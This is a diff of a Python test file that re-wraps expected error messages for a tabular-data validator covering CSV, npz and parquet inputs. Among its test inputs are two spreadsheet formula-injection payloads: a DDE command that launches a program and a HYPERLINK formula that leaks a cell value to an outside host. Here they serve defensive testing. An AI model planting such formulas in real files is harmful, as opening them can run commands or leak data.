@@ -40,71 +40,86 @@ def problem(path: Path, content: str | bytes | None = None, **options: Any) -> s
         ("a,b,y", "it has a header and no row beneath it; add a row for each sample"),
         (
             '"a,b,y\n1,2,3\n',
-            "it has a header and no row beneath it (is a quotation mark never closed?); add a row for each sample",
+            "it has a header and no row beneath it (is a quotation mark never closed?); add a row "
+            "for each sample",
         ),
         (
             "y\n1\n2\n",
-            "it has one column, the target; add one to predict it from, or give the right --separator",
+            "it has one column, the target; add one to predict it from, or give the right "
+            "--separator",
         ),
         (
             "a b y\n1 2 3\n",
-            "it has one column, 'a b y', and none 'y' for --target; are its cells parted by another character? "
+            "it has one column, 'a b y', and none 'y' for --target; are its cells parted by "
+            "another character? "
             "Give it with --separator",
         ),
         (
             "a,b,y\n1,2,3\n4,5\n",
-            "data row 2 has 2 cells where 3 are expected (separated by ','); correct the row, or give the separator "
+            "data row 2 has 2 cells where 3 are expected (separated by ','); correct the row, or "
+            "give the separator "
             "with --separator",
         ),
         (
             "\n\na,b,y\n\n1,2,3\n4\n",
-            "data row 2 has 1 cell where 3 are expected (separated by ','); correct the row, or give the separator "
+            "data row 2 has 1 cell where 3 are expected (separated by ','); correct the row, or "
+            "give the separator "
             "with --separator",
         ),
         (
             "a,y\n1,2,3\n4,5,6\n",
-            "its first row has 2 cells and the rows beneath it have 3 (separated by commas); give every column a name, or the "
+            "its first row has 2 cells and the rows beneath it have 3 (separated by commas); give "
+            "every column a name, or the "
             "separator with --separator",
         ),
         (
             "name,b,y\nAnn,2,3\nBo,5,6\n",
-            "column 'name' holds text, such as 'Ann' in data row 1; choose columns of numbers, such as --features 'b'",
+            "column 'name' holds text, such as 'Ann' in data row 1; choose columns of numbers, "
+            "such as --features 'b'",
         ),
         (
             "a,t,y\n1,,3\n4,NA,6\n7,x,1\n",
-            "column 't' holds text, such as 'x' in data row 3; choose columns of numbers, such as --features 'a'",
+            "column 't' holds text, such as 'x' in data row 3; choose columns of numbers, such as "
+            "--features 'a'",
         ),
         (
             "a,n,c,y\n1,2,x,3\n5,oops,z,6\n",
-            "column 'n' holds text, such as 'oops' in data row 2 (so do not hold numbers: 'c'); choose columns of "
+            "column 'n' holds text, such as 'oops' in data row 2 (so do not hold numbers: 'c'); "
+            "choose columns of "
             "numbers, such as --features 'a'",
         ),
         (
             "a,b,y\n1,=A1+B1,3\n4,\"=cmd|' /C calc'!A0\",6\n",
-            "column 'b' holds text, such as '=A1+B1' in data row 1; choose columns of numbers, such as --features 'a'",
+            "column 'b' holds text, such as '=A1+B1' in data row 1; choose columns of numbers, "
+            "such as --features 'a'",
         ),
         (
             "a,b,y\n1,2,3\n4,\"=HYPERLINK(\"\"http://example.org/?leak=\"\"&A1)\",6\n",
-            "column 'b' holds text, such as '=HYPERLINK(\"http://example.org/?leak=\"&A...' in data row 2; choose "
+            "column 'b' holds text, such as '=HYPERLINK(\"http://example.org/?leak=\"&A...' in "
+            "data row 2; choose "
             "columns of numbers, such as --features 'a'",
         ),
         (
             'a,b,y\n1,"x\ny",3\n4,5,6\n',
-            "column 'b' holds text, such as 'x\\ny' in data row 1; choose columns of numbers, such as --features 'a'",
+            "column 'b' holds text, such as 'x\\ny' in data row 1; choose columns of numbers, such "
+            "as --features 'a'",
         ),
         (
             "a,b,y\n1,2020-01-31,3\n4,2021-01-31,6\n",
-            "column 'b' holds values of type date32[day], such as '2020-01-31' in data row 1; choose columns of numbers, such "
+            "column 'b' holds values of type date32[day], such as '2020-01-31' in data row 1; "
+            "choose columns of numbers, such "
             "as --features 'a'",
         ),
         (
             'a;b;y\n1.5;"2,5";3\n2.5;"2.5";6\n3.5;1.5;1\n',
-            "column 'b' holds text, such as '2,5' in data row 1 (if ',' is its decimal sign, say so with --decimal ','); "
+            "column 'b' holds text, such as '2,5' in data row 1 (if ',' is its decimal sign, say "
+            "so with --decimal ','); "
             "choose columns of numbers, such as --features 'a'",
         ),
         (
             "a,b,y\n1,2,low\n4,5,high\n",
-            "the target 'y' holds text, such as 'low' in data row 1; choose a column of numbers with --target",
+            "the target 'y' holds text, such as 'low' in data row 1; choose a column of numbers "
+            "with --target",
         ),
         (
             "a,b,y\n1,,3\n4,,6\n",
@@ -112,20 +127,24 @@ def problem(path: Path, content: str | bytes | None = None, **options: Any) -> s
         ),
         (
             "a,b,y\n1,2,3\n4,,6\n,5,\n",
-            "3 values missing in 'a', 'b', 'y', the first in data row 2 of 'b'; fill them in, or leave those rows "
+            "3 values missing in 'a', 'b', 'y', the first in data row 2 of 'b'; fill them in, or "
+            "leave those rows "
             "out with --missing drop",
         ),
         (
             "a,b,y\n1,2,3\n4,inf,6\n",
-            "column 'b' holds inf in data row 2, which no fit can use; correct the cell, or leave the column out",
+            "column 'b' holds inf in data row 2, which no fit can use; correct the cell, or leave "
+            "the column out",
         ),
         (
             "a,b,y\n1,2,3\n4,-1e400,6\n",
-            "column 'b' holds -inf in data row 2, which no fit can use; correct the cell, or leave the column out",
+            "column 'b' holds -inf in data row 2, which no fit can use; correct the cell, or leave "
+            "the column out",
         ),
         (
             "a,b,y\n1,2,3\n4,-2e150,6\n",
-            "column 'b' holds -2e+150 in data row 2, whose square is too large for float64; give the column in a larger unit",
+            "column 'b' holds -2e+150 in data row 2, whose square is too large for float64; give "
+            "the column in a larger unit",
         ),
         (
             "a,b,z\n1,2,3\n",
@@ -133,11 +152,13 @@ def problem(path: Path, content: str | bytes | None = None, **options: Any) -> s
         ),
         (
             "price,Yield,y2\n1,2,3\n",
-            "it has no column 'y' for --target (did you mean 'y2'?); its columns are 'price', 'Yield', 'y2'",
+            "it has no column 'y' for --target (did you mean 'y2'?); its columns are 'price', "
+            "'Yield', 'y2'",
         ),
         (
             ",".join(f"c{k}" for k in range(12)) + "\n" + ",".join("1" * 12),
-            "it has no column 'y' for --target; its columns are 'c0', 'c1', 'c2', 'c3', 'c4', 'c5', 'c6', 'c7', 'c8', "
+            "it has no column 'y' for --target; its columns are 'c0', 'c1', 'c2', 'c3', 'c4', "
+            "'c5', 'c6', 'c7', 'c8', "
             "'c9' and 2 more",
         ),
         (
@@ -179,7 +200,8 @@ def test_rows_are_those_of_the_file_after_others_were_left_out(tmp_path: Path) -
 def test_no_row_left_is_said(tmp_path: Path) -> None:
     said = problem(tmp_path / "t.csv", "a,b,y\n,2,3\n4,,6\n", missing="drop")
     assert said == (
-        "2 values missing in 'a', 'b', the first in data row 1 of 'a', so no row is left; choose other columns"
+        "2 values missing in 'a', 'b', the first in data row 1 of 'a', so no row is left; choose "
+        "other columns"
     )
 
 
@@ -266,7 +288,8 @@ def test_what_is_wrong_with_named_arrays_is_said(tmp_path: Path) -> None:
     )
     np.savez(tmp_path / "t.npz", X=np.ones((3, 1)), n=3, y=np.arange(3))
     assert problem(tmp_path / "t.npz") == (
-        "column 'n' is an array of shape (), and no column of numbers; choose columns of numbers, such as --features 'X'"
+        "column 'n' is an array of shape (), and no column of numbers; choose columns of numbers, "
+        "such as --features 'X'"
     )
 
 
@@ -275,7 +298,8 @@ def test_what_is_wrong_with_a_parquet_file_is_said(tmp_path: Path) -> None:
     columns = {"l": [[1], [2]], "t": pa.array(["u", "v"]).dictionary_encode(), "y": [1.0, 2.0]}
     parquet.write_table(pa.table(columns), path)
     assert problem(path) == (
-        "column 'l' holds values of type list<element: int64>, such as '[1]' in data row 1 (so do not hold numbers: 't'); "
+        "column 'l' holds values of type list<element: int64>, such as '[1]' in data row 1 (so do "
+        "not hold numbers: 't'); "
         "choose columns of numbers with --features"
     )
     twice = pa.Table.from_arrays([pa.array([1.0])] * 3, names=["a", "a", "y"])
